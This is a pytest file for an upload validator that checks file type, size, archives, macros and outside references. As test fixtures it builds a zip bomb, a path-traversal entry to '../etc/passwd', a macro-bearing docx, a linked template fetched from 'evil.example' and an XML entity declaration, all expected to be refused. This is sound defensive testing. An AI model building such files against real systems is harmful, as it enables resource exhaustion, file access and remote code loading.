"""Uploads are judged by content: type, size, archives, macros, outside references."""

import io
import zipfile

import pytest

from handfast.kernel.errors import InvalidInput
from handfast.platform.file_checks import DOCX, XLSX, check, sniff

LIMIT = 1024 * 1024
PDF = b"%PDF-1.7\n%\xe2\xe3\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 20


def archive(**parts: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return stream.getvalue()


def office(folder: str = "word", **more: bytes) -> bytes:
    parts = {"[Content_Types].xml": b"<Types/>", f"{folder}/document.xml": b"<d/>", **more}
    return archive(**parts)


def refused(content: bytes, name: str, limit: int = LIMIT) -> str:
    with pytest.raises(InvalidInput) as caught:
        check(content, name, limit=limit)
    problem = caught.value.problems[0]
    assert problem.field == "file"
    assert problem.value == name
    return f"{problem.message} {problem.remedy}".strip()


@pytest.mark.parametrize(
    ("content", "name", "expected"),
    [
        (PDF, "order form.pdf", "application/pdf"),
        (PNG, "logo.PNG", "image/png"),
        (b"\xff\xd8\xff\xe0", "site.jpeg", "image/jpeg"),
        (b"RIFF\x00\x00\x00\x00WEBPVP8 ", "site.webp", "image/webp"),
        (b"a,b\n1,2\n", "usage.csv", "text/csv"),
        (b'{"a": 1}', "order.json", "application/json"),
        (b"<a/>", "flow.bpmn", "application/xml"),
        (archive(a=b"1"), "bundle.zip", "application/zip"),
        (office("word"), "contract.docx", DOCX),
        (office("xl"), "prices.xlsx", XLSX),
    ],
)
def test_accepted_files_get_the_type_of_their_content(content, name, expected):
    assert check(content, name, limit=LIMIT) == expected


def test_an_empty_file_is_refused():
    assert refused(b"", "a.pdf") == "The file is empty. Choose a file with content."


def test_a_file_over_the_limit_is_refused_with_both_sizes():
    assert refused(PDF + b" " * LIMIT, "a.pdf") == (
        "The file has 1.0 MB; 1 MB is the limit. Make it smaller or split it."
    )


def test_an_unknown_type_is_refused_and_the_accepted_ones_are_named():
    assert refused(b"MZ\x90", "setup.exe").startswith("Files of this type are not accepted.")


@pytest.mark.parametrize(
    ("content", "name"),
    [(b"MZ\x90\x00", "a.pdf"), (PDF, "a.docx"), (b"plain", "a.png"), (office("xl"), "a.docx")],
)
def test_content_that_is_not_what_the_name_says_is_refused(content, name):
    assert "but the name says" in refused(content, name)


def test_a_zip_bomb_is_refused_before_it_is_unpacked():
    bomb = archive(zeros=b"\x00" * (64 * 1024 * 1024))
    assert len(bomb) < LIMIT
    assert refused(bomb, "bomb.zip").startswith("The archive would unpack to 64 MB in 1 files.")


def test_an_archive_with_too_many_files_is_refused():
    many = archive(**{f"f{i}": b"" for i in range(10_001)})
    assert "in 10001 files" in refused(many, "many.zip", limit=10 * LIMIT)


def test_an_archive_that_climbs_out_of_its_folder_is_refused():
    assert "../etc/passwd" in refused(archive(**{"../etc/passwd": b"x"}), "a.zip")


def test_macros_are_refused():
    document = office("word", **{"word/vbaProject.bin": b"\x00"})
    assert refused(document, "a.docx") == "The document contains macros. Save it without macros."


def relationship(kind: str, mode: str = "External") -> bytes:
    return (
        '<Relationships><Relationship Id="r1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="http://evil.example/t.dotm" TargetMode="{mode}"/></Relationships>'
    ).encode()


def test_a_linked_template_is_refused():
    document = office("word", **{"word/_rels/settings.xml.rels": relationship("attachedTemplate")})
    assert "loads content from outside" in refused(document, "a.docx")


def test_a_hyperlink_is_harmless():
    document = office("word", **{"word/_rels/document.xml.rels": relationship("hyperlink")})
    assert check(document, "a.docx", limit=LIMIT) == DOCX


def test_xml_entities_are_refused():
    bomb = b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    assert refused(bomb, "flow.bpmn").startswith("The XML declares entities.")


def test_a_broken_archive_is_not_an_archive():
    assert sniff(b"PK\x03\x04broken") == "application/octet-stream"
